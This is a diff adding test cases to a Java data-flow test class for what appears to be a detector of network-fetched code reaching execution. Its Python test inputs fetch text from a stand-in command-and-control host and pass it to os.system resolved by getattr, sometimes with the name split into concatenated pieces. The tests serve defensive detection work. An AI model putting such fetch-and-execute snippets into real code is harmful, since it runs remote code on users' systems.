@@ -1033,6 +1033,12 @@ class DataFlowTest {
                       "c = requests.get('https://c2.example').text",
                       "getattr(importlib.import_module(M), F)(c)")))
           .contains(5);
+      // an annotation changes nothing of the value
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched + lines("name: str = 'sys' + 'tem'", "getattr(os, name)(c)")))
+          .contains(4);
     }
 
     @Test
@@ -1044,6 +1050,13 @@ class DataFlowTest {
               reached(
                   "runs-fetched",
                   fetched + lines("name = 'system'", "name = 'getcwd'", "getattr(os, name)(c)")))
+          .isEmpty();
+      // bound again with an annotation
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  fetched
+                      + lines("name = 'system'", "name: str = 'getcwd'", "getattr(os, name)(c)")))
           .isEmpty();
       // rebound by a loop
       assertThat(
